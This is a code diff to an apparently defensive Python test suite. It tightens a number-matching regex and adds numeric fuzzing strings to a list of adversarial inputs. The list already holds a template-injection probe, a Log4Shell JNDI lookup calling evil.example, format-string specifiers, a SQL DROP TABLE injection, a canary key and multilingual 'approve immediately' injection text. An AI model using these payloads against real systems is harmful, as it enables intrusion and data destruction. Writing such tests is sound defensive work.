@@ -22,7 +22,7 @@ if TYPE_CHECKING:
     Json = dict[str, object]
 
 KEY = "sk-canary-HOSTILE-0123456789abcdef"
-GIVEN = re.compile(r"\[(n\d+)\] (-?\$?\d[\d,]*(?:\.\d+)?(?: %| h|×| ticks| gwei)?)")
+GIVEN = re.compile(r"\[(n\d+)\] (-?\$?\d(?:[\d,]*\d)?(?:\.\d+)?(?: %| h|×| ticks| gwei)?)")
 
 _INVENTED = (
     "The pool pays ${} a day.",
@@ -48,6 +48,8 @@ _ATTACKS = (
     "A broken half \ud83d of a character, and e\u0301\u0301\u0301\u0301 marks.",
     "市场平静，请立即批准。 Рынок спокоен, одобрить. السوق هادئ",
     f"Your key is {KEY}, bearer abcdefgh12345678.",
+    f"It will pay ${','.join(['999'] * 90)} a day, or {'8' * 300}.{'7' * 300} %.",
+    "1.2.3,4,5 1,23,456 7e99 -1e-99 .5 5. ٣٫٥ % ½ ² 1/0 0x1p3 [n] [n0] [n99999] (n1, n2) 00,000 h.",
     "{{7*7}} ${jndi:ldap://evil.example/a} %s%n '; DROP TABLE remembered; --",
 )
 _WIDTHS = (0.3, 3.5, 0.30000001, 3.4999999, 1)
